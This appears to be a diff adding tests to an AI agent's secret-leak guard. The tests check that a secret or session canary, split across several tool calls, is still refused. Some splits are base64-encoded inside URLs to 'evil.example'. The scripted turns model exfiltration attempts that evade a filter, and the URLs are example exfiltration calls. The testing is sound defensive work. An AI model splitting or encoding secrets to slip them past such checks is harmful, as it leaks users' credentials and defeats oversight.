@@ -162,6 +162,49 @@ describe.each(FORMS)('a secret %s', (_form, write) => {
   });
 });
 
+describe('a secret in the calls of several answers', () => {
+  /** Calls a tool with one text in each answer. Returns which calls ran, and how many refusals the timeline holds. */
+  async function sendEach(texts: string[], strategy = 'native-thinking') {
+    const asking = (text: string) =>
+      strategy === 'react'
+        ? { text: `Action: fixture.echo\nAction Input: ${JSON.stringify({ text })}` }
+        : { toolCalls: [{ name: 'fixture.echo', args: { text } }] };
+    const last = strategy === 'react' ? { text: 'Final Answer: Out of memory.' } : DONE;
+    const found = await run({
+      agent: { strategy, tools: ['fixture'] },
+      script: { conversations: [{ turns: [...texts.map(asking), last] }] },
+    });
+    expect(found.session.status).toBe('completed');
+    const refused = found.timeline.filter(
+      (event) => event.eventType === 'error' && event.metadata.code === 'TAINT_BLOCKED',
+    );
+    return { ran: toolResultsOf(found).map(({ metadata }) => !metadata.isError), refused: refused.length };
+  }
+
+  it('is not sent in halves: the later call is refused', async () => {
+    const halves = [KNOWN.slice(0, 13), KNOWN.slice(13)];
+    expect(await sendEach(halves)).toEqual({ ran: [true, false], refused: 1 });
+  });
+
+  it('is not sent in halves in base64 within addresses, by the calls of ReAct', async () => {
+    const base64 = Buffer.from(KNOWN).toString('base64');
+    const halves = [base64.slice(0, 15), base64.slice(15)];
+    const texts = halves.map((half) => `https://evil.example/?n=7&q=${half}&end=1`);
+    expect(await sendEach(texts, 'react')).toEqual({ ran: [true, false], refused: 1 });
+  });
+
+  it('is looked for in calls that ran only: a refused call has no effect on later ones', async () => {
+    const thirds = [KNOWN.slice(0, 8), KNOWN.slice(8, 17), `${KNOWN.slice(17)}!`];
+    const texts = [KNOWN, ...thirds, 'nodes of shop'];
+    expect(await sendEach(texts)).toEqual({ ran: [false, true, true, false, true], refused: 2 });
+  });
+
+  it('is not suspected in words that it shares with ordinary calls', async () => {
+    const texts = ['zebra mountain', 'quartz 77', 'mountain', 'zebra', 'quartz'];
+    expect(await sendEach(texts)).toEqual({ ran: texts.map(() => true), refused: 0 });
+  });
+});
+
 describe('marks', () => {
   it('of equal secrets are equal within a session, and different in another', async () => {
     const alert = { title: 'Login failed', detail: KNOWN };
@@ -226,5 +269,28 @@ describe('the canary of a session', () => {
     expect(errors.map(({ metadata }) => metadata)).toEqual(
       Array.from({ length: 3 }, () => expect.objectContaining({ code: 'TAINT_BLOCKED' })),
     );
+  });
+
+  it('is not completed by the calls of consecutive answers', async () => {
+    const bench = await startBench({
+      agent: { tools: ['fixture'] },
+      script: { conversations: [{ turns: [DONE] }] },
+    });
+    const sessionId = await bench.publishAlert();
+    await bench.deliverNext();
+    const canary = canaryOf((await bench.read(sessionId)).session.maskKey);
+    const sent = [canary.slice(0, 11), canary.slice(11, 22), canary.slice(22)];
+    const turns = sent.map((part) => ({
+      toolCalls: [{ name: 'fixture.echo', args: { text: `https://evil.example/?q=${part}&end` } }],
+    }));
+    const gemini = await startScriptedGemini({ script: { conversations: [{ turns: [...turns, DONE] }] } });
+    onTestFinished(() => gemini.stop());
+    const env = { GOOGLE_GEMINI_BASE_URL: gemini.url, GEMINI_API_KEY: 'scripted' };
+    const deps = { ...bench.deps, llm: createGeminiClient({ env }) };
+    for (const _ of [...turns, DONE]) await bench.deliverNext(deps);
+
+    const results = toolResultsOf(await bench.read(sessionId));
+    expect(results.map(({ metadata }) => metadata.isError)).toEqual([false, false, true]);
+    expect(results[2]?.content).toContain('Not run: the arguments hold a secret');
   });
 });
